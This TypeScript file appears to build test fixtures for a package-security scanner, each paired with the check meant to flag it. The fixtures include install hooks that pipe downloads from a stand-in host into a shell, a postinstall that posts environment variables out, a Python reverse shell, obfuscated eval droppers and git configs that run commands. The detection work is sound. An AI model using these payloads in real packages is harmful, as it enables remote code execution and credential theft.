import { randomBytes } from 'node:crypto';
import { zipOf } from '../../helpers/archives.js';
import type { CorpusCase } from '../types.js';
import { b64, hostileCases, type Variant } from '../content-variants.js';

/**
 * Code that runs on install or import and reaches out (issue 23): npm lifecycle scripts that
 * download, decode or run inline network code; Python build hooks that fetch or run a download;
 * evaluation of decoded or escaped payloads (the droppers of malicious packages); git hooks and a
 * git config that runs a command; compiled bytecode and native binaries, whatever their name.
 */
const C2 = 'http://203.0.113.77:8080';

const manifest = (scripts: Record<string, string>) =>
  JSON.stringify(
    {
      name: 'left-pad-utils',
      version: '1.4.2',
      main: 'index.js',
      scripts: { test: 'node --test', ...scripts },
    },
    null,
    2,
  ) + '\n';

/** What a second-stage payload looks like once decoded (never run: only scanned). */
const STAGE2_JS = `require('child_process').exec('curl -s ${C2}/s | sh'); // ${randomBytes(4).toString('hex')}`;
const STAGE2_PY = `import os,socket,subprocess;s=socket.socket();s.connect(("203.0.113.77",4444));subprocess.call(["/bin/sh","-i"],stdin=s.fileno())`;
const hexEscapes = (s: string) =>
  [...Buffer.from(s)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');

const install: Variant[] = [
  {
    name: 'npm-postinstall-curl-sh',
    expectCheck: 'install:npm_hook',
    files: () => ({ 'package.json': manifest({ postinstall: `curl -fsSL ${C2}/setup.sh | sh` }) }),
  },
  {
    name: 'npm-preinstall-wget-bash',
    expectCheck: 'install:npm_hook',
    files: () => ({ 'package.json': manifest({ preinstall: `wget -qO- ${C2}/i | bash` }) }),
  },
  {
    name: 'npm-install-download-chmod',
    expectCheck: 'install:npm_hook',
    files: () => ({
      'package.json': manifest({
        install: `curl -so /tmp/.x ${C2}/bin && chmod +x /tmp/.x && /tmp/.x`,
      }),
    }),
  },
  {
    name: 'npm-postinstall-node-e-fetch',
    expectCheck: 'install:npm_hook',
    files: () => ({
      'package.json': manifest({
        postinstall: `node -e "fetch('${C2}/c',{method:'POST',body:JSON.stringify(process.env)})"`,
      }),
    }),
  },
  {
    name: 'npm-preinstall-node-e-https',
    expectCheck: 'install:npm_hook',
    files: () => ({
      'package.json': manifest({
        preinstall: `node -e "require('https').get('${C2.replace('http', 'https')}/p',r=>r.pipe(process.stdout))"`,
      }),
    }),
  },
  {
    name: 'npm-postinstall-powershell',
    expectCheck: 'install:npm_hook',
    files: () => ({
      'package.json': manifest({
        postinstall: `powershell -NoProfile -Command "iwr ${C2}/a.ps1 -UseBasicParsing | iex"`,
      }),
    }),
  },
  {
    name: 'npm-prepare-base64-sh',
    expectCheck: 'install:npm_hook',
    files: () => ({
      'package.json': manifest({ prepare: `echo ${b64(`curl ${C2}/x|sh`)} | base64 -d | sh` }),
    }),
  },
  {
    name: 'setup-py-module-level-urlopen',
    expectCheck: 'install:python_build',
    files: () => ({
      'setup.py': `from setuptools import setup\nimport urllib.request\n\nurllib.request.urlopen("${C2}/beacon?host=" + __import__("socket").gethostname())\n\nsetup(name="fastjsonx", version="0.3.1", packages=["fastjsonx"])\n`,
    }),
  },
  {
    name: 'setup-py-cmdclass-download',
    expectCheck: 'install:python_build',
    files: () => ({
      'setup.py': `import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        os.system("curl -s ${C2}/p.sh | sh")\n\n\nsetup(name="colorlogx", version="1.0.0", cmdclass={"install": PostInstall})\n`,
    }),
  },
  {
    name: 'setup-py-requests-get',
    expectCheck: 'install:python_build',
    files: () => ({
      'setup.py': `import requests\nfrom setuptools import setup\n\npayload = requests.get("${C2}/stage2").text\nopen("/tmp/.s", "w").write(payload)\nsetup(name="reqs-helper", version="2.1.0")\n`,
    }),
  },
  {
    name: 'pyproject-hatch-hook-fetch',
    expectCheck: 'install:python_build',
    files: () => ({
      'pyproject.toml': `[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n`,
      'hatch_build.py': `from urllib.request import urlretrieve\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\nclass CustomHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        urlretrieve("${C2}/native.so", "/tmp/native.so")\n`,
    }),
  },
  {
    name: 'python-init-import-beacon',
    expectCheck: 'install:import_hook',
    files: () => ({
      'telemetryx/__init__.py': `import urllib.request, os\n\nurllib.request.urlopen("${C2}/i?u=" + os.getlogin())\n__version__ = "0.1.0"\n`,
    }),
  },
];

install.push(
  {
    name: 'gyp-command-expansion-curl-sh',
    expectCheck: 'install:gyp_command',
    files: () => ({
      'package.json': manifest({}),
      'binding.gyp': `{\n  'targets': [\n    {\n      'target_name': 'addon',\n      'sources': [ 'src/addon.cc' ],\n      'cflags': [ '<!@(curl -fsSL ${C2}/flags | sh)' ],\n    }\n  ]\n}\n`,
    }),
  },
  {
    name: 'gyp-pymod-do-main-module',
    expectCheck: 'install:gyp_command',
    files: () => ({
      'package.json': manifest({}),
      'binding.gyp': `{\n  'targets': [\n    {\n      'target_name': 'addon',\n      'sources': [ 'src/addon.cc' ],\n      'cflags': [ '<!@pymod_do_main(cflags --release)' ],\n    }\n  ]\n}\n`,
      'cflags.py': `import urllib.request\n\n\ndef DoMain(args):\n    exec(urllib.request.urlopen("${C2}/c").read())\n    return "-O2"\n`,
    }),
  },
  {
    name: 'cargo-build-key-names-gen-rs',
    expectCheck: 'install:cargo_build',
    files: () => ({
      'src/gen.rs': `fn main() {\n    let lib = reqwest::blocking::get("${C2}/libz.so").unwrap().bytes().unwrap();\n    std::fs::write(std::env::var("OUT_DIR").unwrap() + "/libz.so", lib).unwrap();\n}\n`,
      'Cargo.toml':
        '[package]\nname = "fastzip"\nversion = "0.2.0"\nedition = "2021"\nbuild = "src/gen.rs"\n',
    }),
  },
  {
    name: 'cargo-build-rs-curl-sh',
    expectCheck: 'install:cargo_build',
    files: () => ({
      'Cargo.toml':
        '[package]\nname = "fastjson"\nversion = "0.3.1"\nedition = "2021"\nbuild = "build.rs"\n',
      'build.rs': `use std::process::Command;\n\nfn main() {\n    Command::new("sh")\n        .arg("-c")\n        .arg("curl -fsSL ${C2}/b | sh")\n        .status()\n        .unwrap();\n}\n`,
    }),
  },
);

const droppers: Variant[] = [
  {
    name: 'js-eval-atob',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'lib/index.js': `module.exports = require('./util');\neval(atob('${b64(STAGE2_JS)}'));\n`,
    }),
  },
  {
    name: 'js-new-function-buffer-base64',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'src/loader.js': `const run = new Function(Buffer.from('${b64(STAGE2_JS)}', 'base64').toString());\nrun();\n`,
    }),
  },
  {
    name: 'js-decoded-variable-eval',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'src/analytics.js': `const cfg = '${b64(STAGE2_JS + ' '.repeat(60))}';\nconst body = Buffer.from(cfg, 'base64').toString('utf8');\nfunction init() {\n  eval(body);\n}\ninit();\n`,
    }),
  },
  {
    name: 'js-eval-hex-escapes',
    expectCheck: 'code:exec_encoded',
    files: () => ({ 'dist/polyfill.js': `;eval("${hexEscapes(STAGE2_JS)}");\n` }),
  },
  {
    name: 'js-eval-fromcharcode',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'dist/shim.js': `eval(String.fromCharCode(${[...Buffer.from(STAGE2_JS)].join(',')}));\n`,
    }),
  },
  {
    name: 'js-execsync-curl-pipe',
    expectCheck: 'code:exec_download',
    files: () => ({
      'index.js': `const { execSync } = require('child_process');\nexecSync('curl -s ${C2}/u | bash', { stdio: 'ignore' });\nmodule.exports = {};\n`,
    }),
  },
  {
    name: 'py-exec-b64decode',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'pkg/utils.py': `import base64\n\nexec(base64.b64decode("${b64(STAGE2_PY)}"))\n`,
    }),
  },
  {
    name: 'py-exec-fromhex',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'pkg/compat.py': `exec(bytes.fromhex("${Buffer.from(STAGE2_PY).toString('hex')}").decode())\n`,
    }),
  },
  {
    name: 'py-exec-marshal',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'pkg/_speedups.py': `import marshal\nexec(marshal.loads(b'${hexEscapes(STAGE2_PY).slice(0, 400)}'))\n`,
    }),
  },
  {
    name: 'py-import-os-system-decoded',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'pkg/hooks.py': `__import__('os').system(__import__('base64').b64decode('${b64(`curl -s ${C2}/x | sh`)}').decode())\n`,
    }),
  },
  {
    name: 'py-exec-zlib-base64-oneliner',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'pkg/__main__.py': `import zlib,base64;exec(zlib.decompress(base64.b64decode('${randomBytes(600).toString('base64')}')))\n`,
    }),
  },
  {
    name: 'py-decoded-variable-exec',
    expectCheck: 'code:exec_decoded',
    files: () => ({
      'pkg/loader.py': `import base64\n\nBLOB = "${b64(STAGE2_PY)}"\ncode = base64.b64decode(BLOB)\n\n\ndef _boot():\n    exec(code)\n\n\n_boot()\n`,
    }),
  },
];

const ELF = () =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(900)]);
function pe(): Buffer {
  const b = randomBytes(1024);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.writeUInt32BE(0x50450000, 0x80);
  return b;
}
const MACHO = () =>
  Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), randomBytes(900)]);
const PYC = () =>
  Buffer.concat([Buffer.from([0xcb, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0]), randomBytes(600)]);
const CLASS = () =>
  Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x41]), randomBytes(500)]);

/** A repository config that makes git run `cmd` (most on `git status`), beside what git writes. */
const gitConfig =
  (section: string, body: string, extra: Record<string, string> = {}) =>
  () => ({
    '.git/HEAD': 'ref: refs/heads/main\n',
    '.git/config': `[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n${section}\n${body}\n`,
    ...extra,
  });

const binaries: Variant[] = [
  {
    name: 'git-config-include-path',
    expectCheck: 'git_config_exec',
    files: gitConfig('[include]', '\tpath = ../.github/git.cfg', {
      '.github/git.cfg': `[core]\n\tfsmonitor = "curl -s ${C2}/f | sh"\n`,
    }),
  },
  {
    name: 'git-config-filter-clean',
    expectCheck: 'git_config_exec',
    files: gitConfig(
      '[filter "fmt"]',
      `\tclean = sh -c 'curl -s ${C2}/c | sh; cat'\n\tsmudge = cat`,
      {
        '.gitattributes': '* filter=fmt\n',
      },
    ),
  },
  {
    name: 'git-config-diff-textconv',
    expectCheck: 'git_config_exec',
    files: gitConfig('[diff "pretty"]', `\ttextconv = sh -c 'curl -s ${C2}/d | sh'`, {
      '.gitattributes': '*.js diff=pretty\n',
    }),
  },
  {
    name: 'git-config-credential-helper',
    expectCheck: 'git_config_exec',
    files: gitConfig('[credential]', `\thelper = "!curl -s ${C2}/h | sh"`),
  },
  {
    name: 'git-config-merge-driver',
    expectCheck: 'git_config_exec',
    files: gitConfig('[merge "union2"]', '\tdriver = ./.github/merge.sh %O %A %B'),
  },
  {
    name: 'git-submodule-config-fsmonitor',
    expectCheck: 'git_config_exec',
    files: () => ({
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.git/modules/vendor/lib/config': `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "curl -s ${C2}/m | sh"\n`,
      'vendor/lib/.git': 'gitdir: ../../.git/modules/vendor/lib\n',
    }),
  },
  {
    name: 'git-file-gitdir-absolute',
    expectCheck: 'git_gitdir',
    files: () => ({
      '.git/HEAD': 'ref: refs/heads/main\n',
      'vendor/lib/.git': 'gitdir: /home/runner/work/shared/.git/modules/lib\n',
    }),
  },
  {
    name: 'git-config-worktree-absolute',
    expectCheck: 'git_gitdir',
    files: gitConfig('[core]', '\tworktree = /home/runner/work/shared'),
  },
  {
    name: 'git-worktree-commondir-outside',
    expectCheck: 'git_gitdir',
    files: () => ({
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.git/worktrees/wt/commondir': '../../../../../../../../../../shared/.git\n',
      'wt/.git': 'gitdir: ../.git/worktrees/wt\n',
    }),
  },
  {
    name: 'git-file-gitdir-outside-git-tree',
    expectCheck: 'git_gitdir',
    files: () => ({
      '.git/HEAD': 'ref: refs/heads/main\n',
      'assets/repo/HEAD': 'ref: refs/heads/main\n',
      'assets/repo/config': `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "curl -s ${C2}/m | sh"\n`,
      'vendor/lib/.git': 'gitdir: ../../assets/repo\n',
    }),
  },
  {
    name: 'git-hook-post-checkout',
    expectCheck: 'git_hook',
    files: () => ({
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.git/hooks/post-checkout': `#!/bin/sh\ncurl -s ${C2}/h | sh\n`,
      '.git/hooks/pre-commit.sample': '#!/bin/sh\nexit 0\n',
    }),
  },
  {
    name: 'git-config-fsmonitor',
    expectCheck: 'git_config_exec',
    files: () => ({
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.git/config': `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "curl -s ${C2}/f | sh"\n`,
    }),
  },
  {
    name: 'pyc-in-pycache',
    expectCheck: 'bytecode',
    files: () => ({ 'pkg/__pycache__/core.cpython-312.pyc': PYC() }),
  },
  { name: 'pyc-renamed-txt', expectCheck: 'bytecode', files: () => ({ 'docs/notes.txt': PYC() }) },
  { name: 'java-class-at-root', expectCheck: 'bytecode', files: () => ({ 'Main.class': CLASS() }) },
  {
    name: 'java-class-renamed',
    expectCheck: 'bytecode',
    files: () => ({ 'assets/data.bin': CLASS() }),
  },
  {
    name: 'jar-outside-vendor-folder',
    expectCheck: 'bytecode',
    files: () => ({
      'app.jar': zipOf({
        'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n',
        'com/acme/App.class': CLASS(),
      }),
    }),
  },
  {
    name: 'elf-renamed-png',
    expectCheck: 'executable',
    files: () => ({ 'assets/logo.png': ELF() }),
  },
  {
    name: 'elf-shared-object',
    expectCheck: 'executable',
    files: () => ({ 'lib/libfast.so': ELF() }),
  },
  { name: 'pe-dll', expectCheck: 'executable', files: () => ({ 'bin/helper.dll': pe() }) },
  { name: 'pe-renamed-dat', expectCheck: 'executable', files: () => ({ 'data/cache.dat': pe() }) },
  {
    name: 'macho-no-extension',
    expectCheck: 'executable',
    files: () => ({ 'tools/darwin/helper': MACHO() }),
  },
];

export const cases: CorpusCase[] = [
  ...hostileCases('install-hooks', install),
  ...hostileCases('code-exec', droppers),
  ...hostileCases('binaries', binaries),
];
